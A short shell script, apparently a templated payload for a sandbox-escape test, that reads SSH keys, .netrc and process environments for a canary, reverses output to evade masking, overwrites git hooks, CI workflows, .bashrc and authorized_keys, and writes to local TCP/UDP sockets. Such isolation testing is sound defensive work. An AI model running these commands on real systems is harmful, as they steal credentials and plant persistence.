#!/bin/sh
# Tries to reach everything that must not be reached. What it finds is said backwards, so that no masking hides it.
unset BASH_ENV ENV PROMPT_COMMAND LD_PRELOAD
echo PAYLOAD-RAN
{
    cat "$HOME/.ssh/id" "$HOME/.netrc" "{{home}}/.ssh/id" "{{home}}/.netrc" "{{runner}}/env" .git/config
    cat /proc/[0-9]*/environ /proc/self/task/*/environ | tr '\0' '\n'
    env
} 2>/dev/null | grep -a canary | rev
for file in "{{outside}}/file" "{{runner}}/env" .git/config .git/hooks/pre-commit .git/HEAD .github/workflows/test.yml \
    plan.yaml .pace/state "{{home}}/.bashrc" "{{home}}/.ssh/authorized_keys" "{{outside}}/new"; do
    (echo stolen >"$file") 2>/dev/null
done
bash -c 'echo stolen >/dev/tcp/127.0.0.1/{{port}}' 2>/dev/null
bash -c 'echo stolen >/dev/udp/127.0.0.1/{{udp}}' 2>/dev/null
exit 0
